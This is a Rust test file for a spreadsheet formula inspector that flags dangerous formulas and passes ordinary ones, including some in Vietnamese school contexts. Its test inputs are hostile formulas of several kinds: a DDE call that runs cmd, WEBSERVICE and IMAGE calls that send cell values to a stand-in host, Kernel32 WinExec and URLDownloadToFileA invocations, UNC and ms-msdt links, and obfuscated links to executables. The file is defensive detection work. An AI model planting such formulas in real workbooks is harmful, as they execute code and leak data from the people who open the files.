use domain::inspection::{Cause, Inspection, Oddity};

use super::{Addresses, judge};
use crate::inspection::findings::Findings;

fn found(formula: &str, cells: &[&str]) -> Inspection {
    let (mut addresses, mut findings) = (Addresses::default(), Findings::default());
    cells.iter().for_each(|cell| addresses.note_cell(cell));
    judge(formula, &mut addresses, &mut findings);
    addresses.judge(&mut findings);
    findings.judge()
}

#[test]
fn what_a_formula_fetches_starts_or_leads_to_is_found_however_it_is_put_together() {
    let elsewhere = Cause::LoadsFromElsewhere;
    for (formula, cause) in [
        (r"cmd|'/C calc'!A0", Cause::DdeField),
        (r#"WEBSERVICE("http://x.vn/"&A1)"#, elsewhere),
        (r#"_xlfn.WEBSERVICE ( A1 )"#, elsewhere),
        (r#"IF(A1,webservice(B1),"")"#, elsewhere),
        (r#"RTD("x.server",,"a")"#, Cause::DdeField),
        (r#"CALL("Kernel32","WinExec","JCJ","cmd",0)"#, Cause::DdeField),
        (r#"REGISTER("urlmon","URLDownloadToFileA","JJCCJJ")"#, Cause::DdeField),
        (r#"REGISTER.ID("Kernel32","WinExec")"#, Cause::DdeField),
        (r#"_xlfn.IMAGE("https://x.vn/?"&A1)"#, elsewhere),
        (r#"IMAGE("\\10.0.0.9\a.png")"#, elsewhere),
        (r#"HYPERLINK("file:///C:/a.exe","Xem")"#, Cause::ProgramLink),
        (r#"HYPERLINK("fi"&"le:///C:/a"&".exe","Xem")"#, Cause::ProgramLink),
        (r#"HYPERLINK(CONCATENATE("\\","10.0.0.9","\a"),"Xem")"#, Cause::ProgramLink),
        (r#"HYPERLINK(CHAR(92)&CHAR(92)&"10.0.0.9\a")"#, Cause::ProgramLink),
        (r#"HYPERLINK(IF(A1>0,"\\10.0.0.9\a",""),"Xem")"#, Cause::ProgramLink),
        (r#"HYPERLINK("C:\a"&A1&".exe")"#, Cause::ProgramLink),
        (r#"HYPERLINK(A1&".exe","Xem")"#, Cause::ProgramLink),
        (r#"HYPERLINK("\\"&A1)"#, Cause::ProgramLink),
        (r#"HYPERLINK("https://truong.vn")+HYPERLINK("ms-msdt:/id")"#, Cause::ProgramLink),
        (r"SUM('\\10.0.0.9\a\[b.xlsx]S'!A1)", elsewhere),
        (r#"INDIRECT("'\\10.0.0.9\a\[b.xlsx]S'!A1")"#, elsewhere),
        (r#"T("\\"&"may-chu\chung")"#, elsewhere),
        (r#"Table1['#a]&WEBSERVICE("http://x.vn")"#, elsewhere),
    ] {
        let found = found(formula, &[]);
        assert!(matches!(&found, Inspection::Held(causes) if causes.contains(&cause)), "{formula}: {found:?}");
    }
    let deep = format!("{}1{}", "ABS(".repeat(2000), ")".repeat(2000));
    assert_eq!(found(&deep, &[]), Inspection::Held(vec![Cause::Unreadable]));
}

#[test]
fn a_link_that_takes_its_address_from_a_cell_is_judged_by_the_cells() {
    let link = r#"HYPERLINK(B2,"Xem")"#;
    for cell in [r"\\10.0.0.9\chung", "file:///C:/a.exe", r"C:\Windows\calc.exe"] {
        assert_eq!(found(link, &[cell]), Inspection::Held(vec![Cause::ProgramLink]), "{cell}");
        assert_eq!(found("SUM(B2:B9)", &[cell]), Inspection::Clean, "{cell} is only words without a link");
    }
    for cell in ["https://truong.edu.vn", "Họp: 15 giờ", "Lớp 4A", r"D:\bai-hat.mp4"] {
        assert_eq!(found(link, &[cell]), Inspection::Clean, "{cell}");
    }
}

#[test]
fn ordinary_formulas_say_nothing() {
    for formula in [
        "SUM(B2:B31)",
        r#"IF(A1="|","có|không",'Lớp 4A | 2026'!B3)"#,
        r#"HYPERLINK("https://truong.edu.vn","Xem")"#,
        r##"HYPERLINK("#'Lớp "&A1&"'!A1","Xem")"##,
        r#"HYPERLINK("https://truong.edu.vn/?id="&A1,"Xem")"#,
        r#"HYPERLINK("mailto:"&A1)"#,
        "VLOOKUP(A2,'[1]Danh sách'!$A$1:$D$40,3,0)",
        r#"CONCATENATE("DDE",B1)"#,
        r#"SUBSTITUTE(A1,"\\","/")"#,
        r#"TEXT(F2,"dd/mm/yyyy")&" // "&B1"#,
        r#""//"&A1"#,
        r#"HYPERLINK(A1&B1,"Xem: trang lớp")"#,
        r#"HYPERLINK(IF(A1="Lop: 4A",B1,C1),"Xem")"#,
        r#"COUNTIF(E2:E40,">=12")"#,
        r#"IF(OR(A1="(",B1="""x"),{1,2;3,4},"'")"#,
        r#"IFERROR(INDEX(A:A,MATCH(1,(B:B=C1)*(D:D<>""),0)),"")"#,
        "Table1[[#This Row],[Cân nặng]]*2",
        "Table1['#Số|lượng]+1",
    ] {
        assert_eq!(found(formula, &[]), Inspection::Clean, "{formula}");
    }
    assert_eq!(found(r#"IMAGE("https://x.vn/a.png")"#, &[]), Inspection::Odd(vec![Oddity::LoadsFromWeb]));
    assert_eq!(found(r#"HYPERLINK("D:\bai-hat.mp4","Nghe")"#, &[]), Inspection::Odd(vec![Oddity::LeftOnOwnMachine]));
}
